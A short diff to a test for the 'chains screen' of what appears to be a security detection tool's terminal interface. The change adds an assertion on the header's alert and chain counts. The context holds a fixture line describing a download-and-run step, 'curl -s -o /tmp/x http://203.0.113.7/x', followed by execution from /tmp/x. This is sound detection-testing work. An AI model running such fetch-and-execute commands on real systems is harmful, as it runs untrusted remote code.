@@ -63,6 +63,7 @@ describe('chains screen', () => {
     stdout.emit('resize');
     const wide = await waitForFrame(lastFrame, (f) => f.includes('payload run from /tmp/x after curl -s -o /tmp/x http://203.0.113.7/x'));
     expect(wide).toContain('bash read /etc/hostname');
+    expect(wide).toContain('· 2 alerts · 2 chains'); // the header counts the stored matches
   });
 
   it("shows the selected match's steps with their exec, process, command line and lineage path", async () => {
